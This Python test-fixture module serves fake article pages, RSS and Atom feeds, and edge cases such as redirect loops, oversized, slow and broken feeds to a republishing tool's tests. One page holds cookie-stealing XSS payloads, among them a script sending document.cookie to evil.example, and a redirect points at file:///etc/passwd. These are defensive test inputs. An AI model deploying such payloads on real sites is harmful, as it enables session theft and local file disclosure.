"""Pages and feeds shaped like real ones, served by a real local HTTP server
(pytest-httpserver) for the republishing desk's tests."""

import io
import time
from pathlib import Path

from PIL import Image
from werkzeug import Response

DEV_ARTICLE = (Path(__file__).parent / "dev_article.html").read_text()
ARTICLE_PATH = "/ayse/docker-images-and-containers-1abc"

HOSTILE = """<!DOCTYPE html><html lang="en"><head><title>Free prizes</title>
<meta property="article:published_time" content="2026-03-01T10:00:00Z"></head>
<body><main><article><h1>Free prizes for every reader</h1>
<div class="article-body">
<p>Click the link below to claim a prize that is definitely real and not a trap at all,
we promise, and tell your friends about it too, because sharing is caring.</p>
<p><a href="javascript:alert(document.cookie)">Claim your prize</a></p>
<p><img src="x.png" onerror="fetch('/steal?c=' + document.cookie)"> A picture of the prize
that everyone will get, in a paragraph long enough to be the article's text.</p>
<script>document.location = "https://evil.example/?" + document.cookie;</script>
<p>More words about the prize so that this is clearly the main content of the page.</p>
</div></article></main></body></html>"""

TURKISH = """<!DOCTYPE html><html lang="tr"><head><meta charset="utf-8">
<title>Go ile eşzamanlılık | Dergi</title>
<meta property="og:title" content="Go ile eşzamanlılık">
<meta name="description" content="Kanallar ve goroutine'ler, örneklerle.">
<meta property="article:published_time" content="2026-03-15T10:00:00+03:00"></head>
<body><nav><a href="/">Dergi</a></nav><main><article><h1>Go ile eşzamanlılık</h1>
<div class="yazi">
<p>Go dilinde eşzamanlılık, goroutine'ler ve kanallar üzerine kuruludur. Bu yazıda ikisini
birlikte, küçük ve anlaşılır örneklerle ele alıyoruz.</p>
<pre><code class="language-go">ch := make(chan int)
go func() { ch &lt;- 42 }()
fmt.Println(&lt;-ch)
</code></pre>
<p>Kanallar, goroutine'ler arasında veri taşımanın güvenli yoludur; kilitlere çoğu zaman
gerek kalmaz.</p></div></article></main></body></html>"""

EMPTY = """<!DOCTYPE html><html><head><title>Loading…</title></head>
<body><div id="app"></div><script src="/app.js"></script></body></html>"""


def rss(base: str) -> str:
    items = "".join(
        f"""<item><title>{title}</title><link>{base}{path}</link>
<guid>{base}{path}</guid><pubDate>{date}</pubDate>
<description>&lt;p&gt;{title}&lt;/p&gt;</description></item>"""
        for title, path, date in (
            ("Docker images and containers, explained", ARTICLE_PATH,
             "Sat, 14 Mar 2026 09:30:00 +0000"),
            ("Kubernetes for the impatient", "/ayse/kubernetes-2def",
             "Fri, 13 Mar 2026 08:00:00 +0000"),
            ("Already republished: Git worktrees", "/ayse/git-worktrees-3ghi",
             "Thu, 12 Mar 2026 08:00:00 +0000"),
        )
    )  # fmt: skip
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>DEV Community: Ayşe Demir</title><link>{base}/ayse</link>
<description>The latest articles on DEV Community by Ayşe Demir</description>
<atom:link rel="self" type="application/rss+xml" href="{base}/feed/ayse"/>
<language>en</language>{items}</channel></rss>"""


def atom(base: str) -> str:
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Dergi: yazılım</title>
<id>{base}/atom</id><updated>2026-03-15T10:00:00Z</updated>
<link rel="self" href="{base}/atom.xml"/>
<entry><title>Go ile eşzamanlılık</title><id>{base}/tr/go-eszamanlilik</id>
<link rel="alternate" href="{base}/tr/go-eszamanlilik"/>
<updated>2026-03-15T10:00:00Z</updated><published>2026-03-15T10:00:00Z</published>
<summary>Kanallar ve goroutine'ler.</summary></entry>
<entry><title>Docker images and containers, explained</title><id>{base}{ARTICLE_PATH}</id>
<link rel="alternate" href="{base}{ARTICLE_PATH}"/>
<updated>2026-03-14T09:30:00Z</updated></entry>
</feed>"""


def cover_png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (1200, 630), (59, 73, 223)).save(buffer, "PNG")
    return buffer.getvalue()


def serve(httpserver, *, slow_seconds: float = 1.6) -> str:
    """Register every page and feed; returns the server's base address."""
    base = httpserver.url_for("").rstrip("/")
    html = {"content_type": "text/html; charset=utf-8"}
    page = DEV_ARTICLE.replace("https://media.dev.example/cover.png", f"{base}/cover.png")
    httpserver.expect_request(ARTICLE_PATH).respond_with_data(page, **html)
    httpserver.expect_request("/cover.png").respond_with_data(cover_png(), content_type="image/png")
    httpserver.expect_request("/old-address").respond_with_data(
        "", status=301, headers={"Location": ARTICLE_PATH}
    )
    httpserver.expect_request("/loop").respond_with_data(
        "", status=302, headers={"Location": "/loop"}
    )
    httpserver.expect_request("/to-file").respond_with_data(
        "", status=302, headers={"Location": "file:///etc/passwd"}
    )
    httpserver.expect_request("/hostile").respond_with_data(HOSTILE, **html)
    httpserver.expect_request("/tr/go-eszamanlilik").respond_with_data(TURKISH, **html)
    httpserver.expect_request("/empty").respond_with_data(EMPTY, **html)
    httpserver.expect_request("/huge").respond_with_data(
        "<html><body><article>" + "<p>" + "word " * 400 + "</p>" * 1 + "</article>" * 1
        + "<p>padding</p>" * 100_000 + "</body></html>",
        **html,
    )  # fmt: skip
    httpserver.expect_request("/paper.pdf").respond_with_data(
        b"%PDF-1.7 not a page", content_type="application/pdf"
    )

    def slow(request):
        time.sleep(slow_seconds)
        return Response(DEV_ARTICLE, content_type="text/html")

    httpserver.expect_request("/slow").respond_with_handler(slow)
    httpserver.expect_request("/feed/ayse").respond_with_data(
        rss(base), content_type="application/rss+xml; charset=utf-8"
    )
    httpserver.expect_request("/atom.xml").respond_with_data(
        atom(base), content_type="application/atom+xml"
    )
    httpserver.expect_request("/broken-feed").respond_with_data(
        "<rss><channel><title>Half a feed<item><link>", content_type="application/xml"
    )
    httpserver.expect_request("/feed-is-html").respond_with_data(DEV_ARTICLE, **html)
    return base
